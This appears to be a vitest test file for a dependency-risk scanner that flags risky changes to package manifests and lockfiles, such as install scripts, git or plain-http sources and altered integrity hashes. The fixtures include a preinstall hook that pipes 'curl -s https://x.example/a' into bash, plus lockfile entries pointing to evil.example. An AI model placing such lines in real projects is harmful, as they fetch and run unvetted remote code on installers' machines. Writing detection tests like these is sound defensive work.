import { describe, expect, test } from 'vitest';
import { changeContext } from '../../../../../test/support/change-context.ts';
import { dependencyRisk } from './index.ts';

type Texts = Record<string, string>;

async function hits(before: Texts, after: Texts): Promise<string[]> {
  const context = await changeContext({ before, after });
  const found = await Promise.all(
    dependencyRisk.map(async (rule) =>
      (await rule.find(context)).map((hit) => {
        expect(hit.quote).not.toBe('');
        expect(after[hit.path]?.split('\n')[(hit.line ?? 0) - 1]).toContain(hit.quote);
        return `${rule.id} ${hit.severity ?? rule.severity} ${hit.path}:${hit.line}`;
      }),
    ),
  );
  return found.flat();
}

const json = (value: unknown): string => JSON.stringify(value, null, 2);
const sha = 'a'.repeat(40);

describe('install scripts', () => {
  const scripts = (all: Texts): Texts => ({ 'package.json': json({ name: 'x', scripts: all }) });
  test.each([
    [{}, { postinstall: 'node setup.js' }, 'high'],
    [{ install: 'node-gyp rebuild' }, { install: 'node evil.js' }, 'high'],
    [{}, { preinstall: 'curl -s https://x.example/a | bash' }, 'critical'],
    [{}, { prepare: 'node build.js' }, 'low'],
  ])('%o to %o', async (before, after, severity) => {
    expect(await hits(scripts(before), scripts(after))).toEqual([
      `dependency-install-script ${severity} package.json:4`,
    ]);
  });
  test.each([
    [{ postinstall: 'a' }, { postinstall: 'a', test: 'b' }],
    [{ postinstall: 'a' }, {}],
    [{}, { prepare: 'husky' }],
    [{}, { 'postinstall-check': 'a', test: 'npm run postinstall' }],
  ])('%o to %o is silent', async (before, after) => {
    expect(await hits(scripts(before as Texts), scripts(after as Texts))).toEqual([]);
  });
  test('a fixture weighs less', async () => {
    expect(await hits({}, { 'test/fixtures/a/package.json': json({ scripts: { postinstall: 'x' } }) })).toEqual([
      'dependency-install-script low test/fixtures/a/package.json:3',
    ]);
  });
});

describe('sources in package.json', () => {
  const deps = (all: Texts): Texts => ({ 'package.json': json({ dependencies: all }) });
  test.each([
    ['git+https://github.com/a/b.git', 'high'],
    ['a/b', 'high'],
    ['github:a/b#main', 'high'],
    [`a/b#${sha}`, 'medium'],
    ['http://x.example/a.tgz', 'high'],
    ['https://x.example/a.tgz', 'high'],
    ['file:./vendor/a.tgz', 'medium'],
    ['git@github.com:a/b.git', 'high'],
  ])('%s is %s', async (spec, severity) => {
    expect(await hits(deps({ b: '^1.0.0' }), deps({ b: spec }))).toEqual([
      `dependency-source ${severity} package.json:3`,
    ]);
  });
  test.each(['^2.0.0', 'workspace:*', 'npm:other@^1', 'file:../sibling', 'link:../x', '*', 'latest', 'catalog:'])(
    '%s is silent',
    async (spec) => {
      expect(await hits(deps({ b: '^1.0.0' }), deps({ b: spec }))).toEqual([]);
    },
  );
  test('another ref of the same repository is silent', async () => {
    expect(await hits(deps({ b: 'a/b#v1' }), deps({ b: 'a/b#v2' }))).toEqual([]);
  });
});

describe('package-lock.json', () => {
  const registry = 'https://registry.example';
  const lock = (packages: Record<string, unknown>): Texts => ({
    'package-lock.json': json({ lockfileVersion: 3, packages: { '': {}, ...packages } }),
  });
  const entry = (more: object = {}): object => ({
    version: '1.0.0',
    resolved: `${registry}/b/-/b-1.0.0.tgz`,
    integrity: 'sha512-aaaa',
    ...more,
  });
  const base = { 'node_modules/b': entry() };

  test.each([
    [
      'another content',
      { 'node_modules/b': entry({ integrity: 'sha512-bbbb' }) },
      ['dependency-lock-entry critical package-lock.json:8'],
    ],
    [
      'another host',
      { 'node_modules/b': entry({ resolved: 'https://evil.example/b/-/b-1.0.0.tgz' }) },
      ['dependency-lock-entry high package-lock.json:7'],
    ],
    [
      'no TLS',
      { 'node_modules/b': entry({ resolved: 'http://registry.example/b/-/b-1.0.0.tgz' }) },
      ['dependency-lock-entry high package-lock.json:7'],
    ],
    [
      'git',
      { ...base, 'node_modules/c': { version: '1.0.0', resolved: `git+ssh://git@github.com/a/c.git#${sha}` } },
      ['dependency-lock-entry high package-lock.json:12'],
    ],
    [
      'another package under the name',
      {
        'node_modules/b': entry({
          version: '1.0.1',
          resolved: `${registry}/evil/-/evil-1.0.1.tgz`,
          integrity: 'sha512-cc',
        }),
      },
      ['dependency-lock-entry high package-lock.json:7'],
    ],
    [
      'a new script',
      {
        ...base,
        'node_modules/c': { version: '1.0.0', resolved: `${registry}/c/-/c-1.0.0.tgz`, hasInstallScript: true },
      },
      ['dependency-lock-entry medium package-lock.json:13'],
    ],
    [
      'a script since this version',
      {
        'node_modules/b': entry({
          version: '1.0.1',
          resolved: `${registry}/b/-/b-1.0.1.tgz`,
          integrity: 'sha512-cc',
          hasInstallScript: true,
        }),
      },
      ['dependency-lock-entry high package-lock.json:9'],
    ],
  ])('%s', async (_, after, expected) => {
    expect(await hits(lock(base), lock(after))).toEqual(expected);
  });

  test.each([
    [
      'a bump',
      {
        'node_modules/b': entry({ version: '1.0.1', resolved: `${registry}/b/-/b-1.0.1.tgz`, integrity: 'sha512-cc' }),
      },
    ],
    ['a better hash', { 'node_modules/b': entry({ integrity: 'sha256-cc' }) }],
    [
      'a scoped package',
      {
        ...base,
        'node_modules/@s/c': { version: '1.0.0', resolved: `${registry}/@s%2fc/-/c-1.0.0.tgz` },
        'node_modules/@s/d': { version: '1.0.0', resolved: `${registry}/@s/d/-/d-1.0.0.tgz` },
      },
    ],
    [
      'an alias',
      {
        ...base,
        'node_modules/c': { name: 'other', version: '1.0.0', resolved: `${registry}/other/-/other-1.0.0.tgz` },
      },
    ],
    ['a workspace link', { ...base, 'node_modules/c': { resolved: 'packages/c', link: true } }],
    [
      'nested',
      {
        ...base,
        'node_modules/c/node_modules/b': entry({
          version: '0.9.0',
          resolved: `${registry}/b/-/b-0.9.0.tgz`,
          integrity: 'sha512-dd',
        }),
      },
    ],
  ])('%s is silent', async (_, after) => {
    expect(await hits(lock(base), lock(after))).toEqual([]);
  });

  test('a private registry for all is silent', async () => {
    const mine = (name: string): object => ({
      version: '1.0.0',
      resolved: `https://npm.mine.example/${name}/-/${name}-1.0.0.tgz`,
    });
    expect(
      await hits(
        lock({ 'node_modules/b': mine('b') }),
        lock({ 'node_modules/b': mine('b'), 'node_modules/c': mine('c') }),
      ),
    ).toEqual([]);
  });
});

describe('manifest and lockfile', () => {
  const manifest = (range: string): string => json({ dependencies: { b: range } });
  const npmLock = (range: string): string => json({ packages: { '': { dependencies: { b: range } } } });
  const yarnLock = (range: string): string => `b@${range}:\n  version "1.0.0"\n`;
  const pnpmLock = (range: string): string =>
    `lockfileVersion: '9.0'\n\nimporters:\n\n  .:\n    dependencies:\n      b:\n        specifier: ${range}\n` +
    '        version: 1.0.0\n\npackages:\n';
  const found = ['dependency-lock-disagrees high package.json:3'];

  test('a lockfile of pnpm 11 that begins with a document of its own', async () => {
    const own =
      "---\nlockfileVersion: '9.0'\n\nimporters:\n\n  .:\n    packageManagerDependencies:\n      pnpm:\n" +
      '        specifier: 11.0.0\n        version: 11.0.0\n---\n';
    const manifest = (range: string): string => json({ dependencies: { b: range } });
    const before = { 'package.json': manifest('^1.0.0'), 'pnpm-lock.yaml': own + pnpmLock('^1.0.0') };
    expect(
      await hits(before, { 'package.json': manifest('^2.0.0'), 'pnpm-lock.yaml': own + pnpmLock('^2.0.0') }),
    ).toEqual([]);
    expect(await hits(before, { ...before, 'package.json': manifest('^2.0.0') })).toHaveLength(1);
  });
  test.each([
    ['package-lock.json', npmLock],
    ['yarn.lock', yarnLock],
    ['pnpm-lock.yaml', pnpmLock],
  ])('%s', async (name, lock) => {
    const before = { 'package.json': manifest('^1.0.0'), [name]: lock('^1.0.0') };
    expect(await hits(before, { ...before, 'package.json': manifest('^2.0.0') })).toEqual(found);
    expect(await hits(before, { 'package.json': manifest('^2.0.0'), [name]: lock('^2.0.0') })).toEqual([]);
    expect(
      await hits(before, { ...before, 'package.json': json({ description: 'x', dependencies: { b: '^1.0.0' } }) }),
    ).toEqual([]);
  });

  test('a workspace is looked up in the root’s lockfile, a stranger to it is not judged', async () => {
    const lock = json({ packages: { '': {}, 'packages/a': { dependencies: { b: '^1.0.0' } } } });
    const before = {
      'package-lock.json': lock,
      'packages/a/package.json': manifest('^1.0.0'),
      'other/package.json': manifest('^1.0.0'),
    };
    expect(
      await hits(before, {
        ...before,
        'packages/a/package.json': manifest('^2.0.0'),
        'other/package.json': manifest('^3.0.0'),
      }),
    ).toEqual(['dependency-lock-disagrees high packages/a/package.json:3']);
  });

  test('go.mod', async () => {
    const mod = (version: string): string => `module x\n\ngo 1.22\n\nrequire (\n\tgithub.com/a/b ${version}\n)\n`;
    const sum = 'github.com/a/b v1.0.0 h1:x=\ngithub.com/a/b v1.0.0/go.mod h1:y=\n';
    const before = { 'go.mod': mod('v1.0.0'), 'go.sum': sum };
    expect(await hits(before, { ...before, 'go.mod': mod('v1.1.0') })).toEqual([
      'dependency-lock-disagrees high go.mod:6',
    ]);
    expect(
      await hits(before, { 'go.mod': mod('v1.1.0 // indirect'), 'go.sum': sum + sum.replaceAll('1.0.0', '1.1.0') }),
    ).toEqual([]);
    expect(await hits({ 'go.mod': mod('v1.0.0') }, { 'go.mod': mod('v1.1.0') })).toEqual([]);
  });
});

describe('other manifests', () => {
  test.each([
    ['requirements.txt', 'requests==2.0\n', 'git+https://github.com/a/b@main\n', 'high'],
    ['requirements-dev.txt', '', `b @ git+https://github.com/a/b@${sha}\n`, 'medium'],
    ['requirements.txt', '', '--extra-index-url https://x.example/simple\n', 'high'],
    ['requirements.txt', '', '--index-url=https://x.example/simple\n', 'high'],
    ['requirements.txt', '', '--trusted-host x.example\n', 'high'],
    ['requirements/base.in', '', 'http://x.example/a.whl\n', 'high'],
    ['pyproject.toml', '[tool.uv.sources]\n', 'b = { git = "https://github.com/a/b" }\n', 'high'],
    ['pyproject.toml', '[project]\n', 'dependencies = ["b @ git+https://github.com/a/b"]\n', 'high'],
    ['Cargo.toml', '[dependencies]\n', 'b = { git = "https://github.com/a/b", branch = "main" }\n', 'high'],
    ['Cargo.toml', '[patch.crates-io]\n', `b = { git = "https://github.com/a/b", rev = "${sha}" }\n`, 'medium'],
    ['Gemfile', "source 'https://gems.example'\n", "gem 'b', git: 'https://github.com/a/b'\n", 'high'],
    ['Gemfile', '', "source 'http://x.example'\n", 'high'],
    ['pom.xml', '<project><repositories>\n<repository>\n', '<url>http://x.example/m2</url>\n', 'high'],
    ['build.gradle', 'repositories {\n', 'maven { url "http://x.example" }\n', 'high'],
    ['build.gradle.kts', 'repositories {\n', 'maven { isAllowInsecureProtocol = true }\n', 'high'],
    ['go.mod', 'module x\n', 'replace github.com/a/b => github.com/c/b v1.0.0\n', 'high'],
    ['go.mod', 'module x\n', 'replace github.com/a/b => github.com/a/b v1.0.0\n', 'medium'],
    ['yarn.lock', '# yarn lockfile v1\n', '  resolved "git+https://github.com/a/b.git#abc"\n', 'high'],
    [
      'yarn.lock',
      'b@1:\n  resolved "https://registry.example/b/-/b-1.tgz#1"\n',
      '  resolved "https://evil.example/b.tgz#1"\n',
      'high',
    ],
    [
      'pnpm-lock.yaml',
      'packages:\n',
      '    resolution: {tarball: https://codeload.github.com/a/b/tar.gz/abc}\n',
      'high',
    ],
  ])('%s: %j then %j is %s', async (path, before, added, severity) => {
    const line = before.split('\n').length;
    expect(await hits({ [path]: before }, { [path]: before + added })).toEqual([
      `dependency-source ${severity} ${path}:${line}`,
    ]);
  });

  test.each([
    ['requirements.txt', '', '# --extra-index-url https://x.example\nb==1.0 # see http://x.example\n'],
    ['requirements.txt', '', `--index-url https://${['pypi', 'org'].join('.')}/simple\n-r base.txt\n`],
    ['notes.txt', '', 'git+https://github.com/a/b\n'],
    ['pyproject.toml', '[project.urls]\n', 'git = "https://github.com/a/b"\nhome = "http://x.example"\n'],
    ['Cargo.toml', '[package]\n', 'repository = "https://github.com/a/b"\nhomepage = "http://x.example"\n'],
    ['Gemfile', '', "gem 'git'\n# gem 'b', git: 'x'\n"],
    [
      'pom.xml',
      '<project>\n',
      '<url>http://x.example</url>\n<organization><url>http://x.example</url></organization>\n',
    ],
    ['pom.xml', '<project><repositories>\n', '<!-- <url>http://x.example</url> -->\n<url>https://x.example</url>\n'],
    ['build.gradle', '', '// maven { url "http://x.example" }\nmaven { url "http://localhost:8081" }\n'],
    ['go.mod', 'module x\n', 'replace github.com/a/b => ../b\n// replace a => b v1\n'],
    ['yarn.lock', '# v1\n', '  resolved "https://registry.example/b/-/b-1.tgz#1"\n'],
    ['pnpm-lock.yaml', 'packages:\n', '    resolution: {integrity: sha512-abc==}\n'],
  ])('%s: %j then %j is silent', async (path, before, added) => {
    expect(await hits({ [path]: before }, { [path]: before + added })).toEqual([]);
  });

  test('a source that only moved is silent', async () => {
    expect(
      await hits(
        { 'requirements.txt': 'git+https://github.com/a/b@main\na==1\n' },
        { 'requirements.txt': 'a==1\n  git+https://github.com/a/b@main\n' },
      ),
    ).toEqual([]);
  });
});

describe('hostile input', () => {
  test.each([
    ['package.json', '{'],
    ['package.json', '[]'],
    ['package.json', 'null'],
    ['package.json', '{"scripts":[1],"dependencies":{"a":{"b":1}},"overrides":7}'],
    ['package.json', '{"dependencies":{"__proto__":"git+https://x","constructor":1}}'],
    ['package-lock.json', '{"packages":[]}'],
    ['package-lock.json', '{"packages":{"node_modules/a":null,"node_modules/":{"resolved":7}}}'],
    ['package-lock.json', `${'['.repeat(100_000)}`],
    ['go.mod', 'require (\n'.repeat(2000)],
    ['yarn.lock', `  resolved "${'@'.repeat(100_000)}"`],
    ['requirements.txt', `git+${'x'.repeat(300_000)}`],
    ['pnpm-lock.yaml', '\0\0\0'],
    ['pom.xml', '<repository>'.repeat(20_000)],
    ['Cargo.toml', '[[[[['.repeat(10_000)],
  ])('%s %j ends without a throw', async (path, text) => {
    const base = { 'package-lock.json': '{"packages":{}}', 'package.json': '{}' };
    const found = await hits(base, { ...base, [path]: text.slice(0, 400_000) });
    expect(found.length).toBeLessThanOrEqual(1);
  });

  test('a large hostile lockfile gives a bounded number of hits', async () => {
    const packages = Object.fromEntries(
      Array.from({ length: 5000 }, (_, at) => [
        `node_modules/p${at}`,
        { version: '1.0.0', resolved: `http://x.example/${at}` },
      ]),
    );
    expect(
      await hits({ 'package-lock.json': '{"packages":{}}' }, { 'package-lock.json': json({ packages }) }),
    ).toHaveLength(20);
  });
});
